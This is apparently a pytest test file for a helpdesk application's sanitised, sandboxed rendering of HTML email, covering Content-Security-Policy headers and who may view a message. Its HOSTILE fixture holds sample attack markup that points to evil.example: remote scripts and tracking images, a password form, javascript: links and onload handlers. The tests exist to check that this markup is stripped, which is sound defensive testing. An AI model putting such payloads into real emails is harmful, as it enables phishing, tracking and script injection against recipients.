"""The mail of an entry in its own layout: who gets it, what is in it, and what its answer forbids."""

import re
from typing import Any

import pytest

from tests.support.agents import ANA, CHIEF, NINA, Desk
from tests.support.mime import multipart, part
from tests.support.web import Site

HOSTILE = """<html><head><base href="http://evil.example/"><meta http-equiv="refresh" content="0;url=http://evil.example/">
<style>@import url(http://evil.example/a.css); body{background:url(http://evil.example/b.png)}</style>
<link rel="stylesheet" href="http://evil.example/c.css"><title>t</title></head>
<body background="http://evil.example/d.png" onload="x()"><p style="background:url(http://evil.example/e.png)">Bonjour</p>
<script src="http://evil.example/f.js"></script><svg onload="x()"><image href="http://evil.example/g.png"/></svg>
<img src="http://evil.example/h.gif"><img src="cid:logo" srcset="http://evil.example/i.gif 2x">
<form action="http://evil.example/j"><input name="password"><button>ok</button></form>
<iframe src="http://evil.example/k"></iframe><object data="http://evil.example/l"></object>
<a href="javascript:x()">un</a> <a href="https://site.example/">deux</a></body></html>"""
GIF = b"GIF89a\1\0\1\0\0\0\0;"


def mail_of(html: str) -> bytes:
    """A mail with this HTML and a logo in it."""
    rich = part("text/html; charset=utf-8", html.encode())
    return multipart("related", rich, part("image/gif", GIF, "Content-ID: <logo>"))


def formatted(site: Site, html: str, **values: Any) -> str:
    """An entry with this mail, of Marie; the path of its layout."""
    ticket = site.ticket(site.person())
    entry_id = site.entry_of_mail(ticket, mail_of(html), data={"has_layout": True}, **values)
    return f"/tickets/{ticket.ref}/entries/{entry_id}/formatted"


def test_the_page_of_the_request_offers_it_in_a_sandbox(site: Site) -> None:
    path = formatted(site, "<p>Bonjour")
    page = site.sign_in(site.person()).get(path.partition("/entries")[0])
    frame = re.search(r"<iframe[^>]*>", page.text)
    assert frame is not None
    assert f'src="{path}"' in frame[0]
    assert 'sandbox="allow-popups allow-popups-to-escape-sandbox"' in frame[0]
    assert "frame-src 'self'" in page.headers["Content-Security-Policy"]


def test_a_mail_without_a_layout_offers_none(site: Site) -> None:
    person = site.person()
    ticket = site.ticket(person)
    entry_id = site.entry(ticket)
    browser = site.sign_in(person)
    assert "<iframe" not in browser.get(f"/tickets/{ticket.ref}").text
    assert browser.get(f"/tickets/{ticket.ref}/entries/{entry_id}/formatted").status_code == 404


def test_nothing_in_it_acts_or_leads_elsewhere(site: Site) -> None:
    page = site.sign_in(site.person()).get(formatted(site, HOSTILE)).text
    assert "Bonjour" in page
    assert "evil.example" not in page
    assert "javascript" not in page
    assert re.findall(r"<(?:script|svg|form|input|iframe|object|meta http|link)", page) == []
    assert re.findall(r"<base[^>]*>", page) == ['<base target="_blank">']
    assert re.findall(r"<img[^>]*>", page) == ["<img>", '<img src="data:image/gif;base64,R0lGODlhAQABAAAAADs=">']
    assert '<a href="https://site.example/" rel="noopener noreferrer nofollow">deux</a>' in page


def test_its_answer_forbids_everything_but_showing_it_here(site: Site) -> None:
    answer = site.sign_in(site.person()).get(formatted(site, "<p>x"))
    policy = dict(rule.partition(" ")[::2] for rule in answer.headers["Content-Security-Policy"].split("; "))
    style = policy.pop("style-src")
    assert re.fullmatch(r"'sha256-[A-Za-z0-9+/]{43}='", style)
    assert policy == {
        "default-src": "'none'",
        "img-src": "data:",
        "form-action": "'none'",
        "base-uri": "'none'",
        "frame-ancestors": "'self'",
        "sandbox": "allow-popups allow-popups-to-escape-sandbox",
    }
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    assert answer.headers["X-Frame-Options"] == "SAMEORIGIN"
    assert answer.headers["Referrer-Policy"] == "no-referrer"
    assert answer.headers["Cache-Control"] == "no-store"
    assert answer.headers["Content-Type"] == "text/html; charset=utf-8"


def test_it_is_for_whom_the_request_is(site: Site) -> None:
    path = formatted(site, "<p>secret")
    assert site.sign_in(site.person("paul@example.org")).get(path).status_code == 404
    assert site.browser().get(path).status_code in {302, 303}
    mine = site.ticket(site.person("paul@example.org"))
    other = re.sub(r"/tickets/[^/]*", f"/tickets/{mine.ref}", path)
    assert site.sign_in(site.person("paul@example.org")).get(other).status_code == 404


def test_what_the_reporter_does_not_see_has_no_layout_either(site: Site) -> None:
    assert site.sign_in(site.person()).get(formatted(site, "<p>secret", visible=False)).status_code == 404


@pytest.mark.parametrize("html", ["<p>x" + "y" * 1_000_001, "<div>" * 5_000 + "x"], ids=["long", "deep"])
def test_what_is_too_much_is_shown_as_text(site: Site, html: str) -> None:
    page = site.sign_in(site.person()).get(formatted(site, html, text="Bonjour <Marie>")).text
    assert "ne peut pas être affichée" in page
    assert '<pre dir="auto">Bonjour &lt;Marie&gt;</pre>' in page


def test_where_the_mail_is_gone_its_text_is_shown(site: Site) -> None:
    path = formatted(site, "<p>Bonjour", text="Bonjour le texte")
    browser = site.sign_in(site.person())
    for file in site.runtime.where.archive.rglob("*"):
        if file.is_file():
            file.unlink()
    answer = browser.get(path)
    assert answer.status_code == 200
    assert "Bonjour le texte" in answer.text


@pytest.mark.parametrize(("email", "status"), [(NINA, 200), (CHIEF, 200), (ANA, 404), ("marie@example.org", 404)])
def test_an_agent_who_reads_the_entry_has_it_at_the_desk(desk: Desk, email: str, status: int) -> None:
    site = desk.site
    entry_id = site.entry_of_mail(desk.ticket, mail_of(HOSTILE), data={"has_layout": True})
    browser = desk.browser(email)
    answer = browser.get(f"{desk.path}/entries/{entry_id}/formatted")
    assert answer.status_code == status
    assert ("Bonjour" in answer.text) == (status == 200)
    assert "evil.example" not in answer.text
    if status == 200:
        assert f'src="{desk.path}/entries/{entry_id}/formatted"' in browser.get(desk.path).text
        assert "sandbox" in answer.headers["Content-Security-Policy"]
